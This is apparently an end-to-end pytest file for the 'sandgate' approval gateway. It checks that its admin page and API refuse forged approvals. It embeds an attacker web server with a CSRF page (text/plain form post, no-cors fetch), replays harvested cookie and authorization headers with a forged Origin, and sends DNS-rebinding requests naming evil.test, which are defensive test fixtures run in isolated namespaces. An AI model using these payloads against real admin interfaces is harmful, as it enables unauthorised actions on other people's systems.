"""Someone who is not an approver tries to get a held request approved through the
admin page, its API or its webhook: through the approver's own browser, with a
credential the browser gave away, with a request rebound to the admin's address,
with an approver name of their choosing, or by stalling the webhook. The service,
the approver's headless Chromium and the attacker's web server all run in the fake
internet's host netns (its loopback is the admin's): nothing leaves the test's
namespaces. Every variant leaves the approval pending and allowed.test's server
untouched, until the real approver decides.

- Another web server on the admin's host (another port of 127.0.0.1: a developer's
  dev server, another user's process) that the approver's browser visits. Cookies are
  not isolated by port, so a session cookie of the page would be sent to it, and a
  same-site page passes SameSite=Strict. The page's session is therefore no cookie
  but a header from the page's own storage (origin-scoped, port included): the
  attacker's server sees no credential, its page's cross-origin and `text/plain`
  posts (Origin or `Origin: null`) are refused, and replaying whatever the browser
  sent it decides nothing.
- A request whose Host names another site (DNS rebinding), a forged `approver`
  field, a caller's `Origin: null`, a webhook receiver that accepts and never answers,
  and the control socket's mode (root and the `sandgate` group only: the CLI's way in).
"""

from __future__ import annotations

import grp
import json
import re
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support.sandbox import curl, eventually
from support.service import GatewayProcess, browser_env
from test_approvals_web import RULES, _held_task, _token

pytestmark = pytest.mark.e2e

ADMIN = "http://127.0.0.1:9465/"
OTHER_SITE = "http://127.0.0.1:8000/"  # the attacker's server, on the admin's host
HELD = {"held": curl("http://allowed.test/", timeout=60)}  # waits for a decision

# The attacker's web server: logs every request it gets (what the approver's browser
# attaches for 127.0.0.1 included) and serves a page that tries to decide from the
# browser: a no-cors JSON-as-text/plain fetch, a text/plain form post sent with
# `Origin: null` (no-referrer), and a credentialed read of the pending list.
ATTACKER = r"""
import json, sys
from http.server import BaseHTTPRequestHandler, HTTPServer
port, log_path, admin = int(sys.argv[1]), sys.argv[2], sys.argv[3]
log = open(log_path, "a")
PAGE = '''<!doctype html><html><head><meta name="referrer" content="no-referrer"></head><body>
<iframe name="sink"></iframe>
<form id="f" method="post" target="sink" enctype="text/plain" action="ADMINapi/approvals/ID">
<input name='{"decision": "approve", "scope": "task", "x": "' value='"}'></form>
<script>
const target = "ADMINapi/approvals/ID";
const body = JSON.stringify({decision: "approve", scope: "task"});
document.getElementById("f").submit();
Promise.allSettled([
  fetch("/collect", {credentials: "include"}),
  fetch(target, {method: "POST", mode: "no-cors", credentials: "include",
                 headers: {"Content-Type": "text/plain"}, body}),
  fetch("ADMINapi/approvals", {credentials: "include"}).then(r => r.text()),
]).then(results => {
  setTimeout(() => { document.title = "done " + results[2].status; }, 1000);
});
</script></body></html>'''
class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        log.write(json.dumps({"path": self.path, "headers": dict(self.headers)}) + "\n")
        log.flush()
        approval = self.path.partition("id=")[2]
        body = PAGE.replace("ADMIN", admin).replace("ID", approval).encode()
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
HTTPServer(("127.0.0.1", port), Handler).serve_forever()
"""

# The approver: logs in to the page, sees the request, visits the other site, comes
# back (still logged in: the tab's session) and sees the row go when the test denies
# it elsewhere (the page's live updates).
APPROVER = r"""
import sys
from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

admin, token, other = sys.argv[1:4]
options = webdriver.ChromeOptions()
options.binary_location = "/usr/bin/chromium"
for flag in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage"):
    options.add_argument(flag)
options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
driver = webdriver.Chrome(options=options, service=Service("/usr/bin/chromedriver"))
try:
    wait = WebDriverWait(driver, 20)
    driver.get(admin)
    driver.find_element(By.ID, "token").send_keys(token)
    driver.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
    row = wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "#pending tbody tr[data-id]")))
    driver.get(other + "attack.html?id=" + row.get_attribute("data-id"))
    wait.until(lambda d: d.title.startswith("done"))
    print(driver.title, flush=True)
    driver.get(admin)
    wait.until(ec.presence_of_element_located((By.CSS_SELECTOR, "#pending tbody tr[data-id]")))
    print("back", flush=True)
    try:
        wait.until(lambda d: not d.find_elements(By.CSS_SELECTOR, "#pending tbody tr[data-id]"))
    except Exception:
        # What the page showed instead (CI saw this wait time out once, the denial made
        # within its first 4 s): its status line, its tables, whether it went back to
        # the login, and its console.
        for what in ("status", "pending", "recent"):
            text = " ".join(driver.find_element(By.ID, what).get_attribute("textContent").split())
            print(f"page {what}: {text[:250]!r}", file=sys.stderr)
        hidden = {w: driver.find_element(By.ID, w).get_attribute("hidden") for w in ("approvals", "login")}
        print(f"page hidden: {hidden}", file=sys.stderr)
        console = [e["message"][:150] for e in driver.get_log("browser") if e["level"] != "DEBUG"]
        print(f"page console: {console[-5:]}", file=sys.stderr)  # all within err[-3000:]
        raise
    print("live", flush=True)
finally:
    driver.quit()
"""

# An HTTP client in the host netns: prints {"status", "body"}; sends exactly the
# headers given (Host and Origin included).
CLIENT = r"""
import http.client, json, sys
method, url, headers, body = sys.argv[1], sys.argv[2], json.loads(sys.argv[3]), sys.argv[4]
host_port, _, path = url.removeprefix("http://").partition("/")
host, port = host_port.rsplit(":", 1)
c = http.client.HTTPConnection(host, int(port), timeout=10)
c.putrequest(method, "/" + path, skip_host="host" in {k.lower() for k in headers})
for k, v in headers.items():
    c.putheader(k, v)
c.putheader("content-length", str(len(body.encode())))
c.endheaders(body.encode())
r = c.getresponse()
data = r.read()
try:
    document = json.loads(data)
except ValueError:
    document = data.decode("utf-8", "replace")
print(json.dumps({"status": r.status, "body": document}))
"""

# A webhook receiver that accepts connections and never answers.
SILENT = r"""
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(64)
held = []
while True:
    conn, _ = s.accept()
    held.append(conn)
    open(sys.argv[2], "a").write("accepted\n")
"""


def _group_ids(name: str) -> list[int]:
    try:
        return [grp.getgrnam(name).gr_gid]
    except KeyError:
        return []


def _call(fakenet, method: str, url: str, headers: dict, body: str = "") -> dict:
    result = fakenet.run_in_host(
        [sys.executable, "-c", CLIENT, method, url, json.dumps(headers), body], timeout=30
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def _service(fakenet, tmp_path: Path, *extra: str) -> tuple[GatewayProcess, str, dict]:
    """The service (its page on ADMIN), its token and the API's headers with it."""
    fakenet.clear_logs()
    (tmp_path / "rules.yaml").write_text(RULES)
    service = GatewayProcess(fakenet, tmp_path, tmp_path / "rules.yaml", *extra).start()
    url, token = _token(service)
    assert url == ADMIN, url
    return service, token, {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}


def _pending(fakenet, bearer: dict) -> dict:
    (asked,) = eventually(
        lambda: _call(fakenet, "GET", ADMIN + "api/approvals", bearer)["body"]["approvals"],
        timeout=30,
    )
    return asked


def _finish_denied(fakenet, service, task, result_of, bearer: dict, pending_id: str) -> None:
    """The approval is still pending, nothing reached allowed.test; the real approver
    denies and the task's request gets its 403."""
    state = _call(fakenet, "GET", ADMIN + f"api/approvals/{pending_id}", bearer)
    assert state["body"]["approval"]["state"] == "pending", state
    assert service.events(kind="approval", reason="approval_granted") == []
    assert fakenet.requests_seen() == []
    denied = _call(
        fakenet, "POST", ADMIN + f"api/approvals/{pending_id}", bearer, '{"decision": "deny"}'
    )
    assert denied["status"] == 200, denied
    out, err = task.communicate(timeout=60)
    result = result_of(out, err)
    assert result["held"].out.strip().splitlines()[-1] == "403", result.describe()
    assert fakenet.requests_seen() == []


def _stop(service, task, *procs) -> None:
    if task is not None and task.poll() is None:
        task.kill()
        task.wait()
    service.stop()
    for proc in procs:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def test_a_site_on_another_port_of_the_admin_host_gets_no_credential_and_decides_nothing(
    fakenet, tmp_path
):
    seen_log = tmp_path / "attacker.jsonl"
    attacker = fakenet.popen_in_host(
        [sys.executable, "-c", ATTACKER, OTHER_SITE.rsplit(":", 1)[1].strip("/"), str(seen_log),
         ADMIN]
    )  # fmt: skip
    procs = [attacker]
    service, token, bearer = _service(fakenet, tmp_path)
    task = None
    try:
        task, result_of = _held_task(service, tmp_path, HELD)
        asked = _pending(fakenet, bearer)
        browser = fakenet.popen_in_host(
            [sys.executable, "-c", APPROVER, ADMIN, token, OTHER_SITE],
            env=browser_env(tmp_path),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        procs.append(browser)
        # The attack page could not read the pending list either (no CORS grant).
        assert browser.stdout.readline().split() == ["done", "rejected"], browser.stderr.read()
        assert browser.stdout.readline() == "back\n", browser.stderr.read()
        seen = [json.loads(line) for line in seen_log.read_text().splitlines()]
        assert {r["path"].split("?")[0] for r in seen} >= {"/attack.html", "/collect"}, seen
        # The approver's browser gave the other site nothing of the admin page's ...
        for request in seen:
            headers = {k.lower(): v for k, v in request["headers"].items()}
            assert "sandgate" not in headers.get("cookie", ""), request
            assert "authorization" not in headers, request
        # ... and whatever it did send, replayed by the attacker as the page would send
        # it (Origin forged, the page's CSRF token scraped if the page gives one out),
        # decides nothing.
        for request in seen:
            stolen = {
                k: v
                for k, v in request["headers"].items()
                if k.lower() in ("cookie", "authorization")
            }
            page = _call(fakenet, "GET", ADMIN, stolen)["body"]
            csrf = re.search(r'name="csrf-token" content="([^"]+)"', str(page))
            forged = {**stolen, "Origin": ADMIN.rstrip("/"), "Content-Type": "application/json"}
            if csrf:
                forged["X-CSRF-Token"] = csrf[1]
            replay = _call(
                fakenet, "POST", ADMIN + f"api/approvals/{asked['id']}", forged,
                json.dumps({"decision": "approve", "scope": "task"}),
            )  # fmt: skip
            assert replay["status"] in (401, 403), replay
        _finish_denied(fakenet, service, task, result_of, bearer, asked["id"])
        (denied,) = eventually(
            lambda: service.events(kind="approval", reason="approval_denied"), timeout=5
        )
        assert denied["approver"] == "admin (api key)"
        out, err = browser.communicate(timeout=30)
        assert out == "live\n" and browser.returncode == 0, err[-3000:]
    finally:
        _stop(service, task, *procs)


def test_rebound_host_forged_approver_null_origin_and_a_silent_webhook_decide_nothing(
    fakenet, tmp_path
):
    accepted = tmp_path / "silent.log"
    silent = fakenet.popen_in_host([sys.executable, "-c", SILENT, "8098", str(accepted)])
    secret = tmp_path / "webhook.key"
    secret.write_text("a-webhook-secret-of-enough-bytes\n")
    hook = ("--approval-webhook", "http://127.0.0.1:8098/hook", "--approval-webhook-secret")
    metrics = ("--metrics-listen", "127.0.0.1:9464")  # in the fake internet's host netns
    service, token, bearer = _service(fakenet, tmp_path, *hook, str(secret), *metrics)
    task = None
    try:
        task, result_of = _held_task(service, tmp_path, HELD)
        asked = _pending(fakenet, bearer)
        path = ADMIN + f"api/approvals/{asked['id']}"
        approve = json.dumps({"decision": "approve", "scope": "task"})
        eventually(accepted.exists, timeout=10)  # the webhook is stuck on its receiver

        # DNS rebinding: a page of evil.test whose name now points at the admin's
        # address. Its requests name evil.test in Host (and Origin); it holds no
        # credential of the admin's origin, and its cross-site post is refused.
        rebound = {"Host": "evil.test:9465", "Origin": "http://evil.test:9465"}
        listed = _call(fakenet, "GET", ADMIN + "api/approvals", rebound)
        assert listed["status"] in (401, 421), listed
        posted = _call(fakenet, "POST", path, {**rebound, "Content-Type": "text/plain"}, approve)
        assert posted["status"] in (401, 403, 421), posted
        # A sandboxed page's `Origin: null` (no-referrer, sandboxed iframe), even with a
        # valid key: refused as cross-site.
        null = _call(fakenet, "POST", path, {**bearer, "Origin": "null"}, approve)
        assert null["status"] == 403 and "cross-site" in null["body"]["error"], null
        # A wrong key with a chosen approver name: 401.
        spoof = json.dumps({"decision": "approve", "scope": "task", "approver": "root"})
        wrong = {**bearer, "Authorization": "Bearer " + token[:-1] + "x"}
        assert _call(fakenet, "POST", path, wrong, spoof)["status"] == 401
        # ... which the admin's log tells, with the address, and the metric counts.
        said = (
            f"admin: a wrong token or session for POST /api/approvals/{asked['id']} from 127.0.0.1"
        )
        assert eventually(lambda: said in service.log.read_text(), timeout=5), (
            service.log.read_text()
        )
        scrape = fakenet.run_in_host(["curl", "-s", "http://127.0.0.1:9464/metrics"], timeout=10)
        assert re.search(r"^sandgate_admin_auth_failures_total [1-9]", scrape.stdout, re.M), (
            scrape.stdout[-2000:]
        )

        # The control socket (the CLI's way to decide): root and the sandgate group only.
        st = service.control.stat()
        assert stat.S_ISSOCK(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o660, oct(st.st_mode)
        assert st.st_uid == 0 and st.st_gid in {0, *_group_ids("sandgate")}

        # The silent webhook receiver stalls nothing: the pending list and a decision
        # answer at once. The decision by a key records the key's name, not the body's.
        started = time.monotonic()
        state = _call(fakenet, "GET", path, bearer)
        assert state["body"]["approval"]["state"] == "pending", state
        assert service.events(kind="approval", reason="approval_granted") == []
        assert fakenet.requests_seen() == []
        decided = _call(fakenet, "POST", path, bearer, spoof)
        assert decided["status"] == 200, decided
        assert time.monotonic() - started < 10
        assert decided["body"]["approval"]["approver"] == "admin (api key)"
        out, err = task.communicate(timeout=60)
        result = result_of(out, err)
        assert result["held"].out.strip().splitlines()[-1] == "200", result.describe()
        (granted,) = eventually(
            lambda: service.events(kind="approval", reason="approval_granted"), timeout=5
        )
        assert granted["approver"] == "admin (api key)"
    finally:
        _stop(service, task, silent)
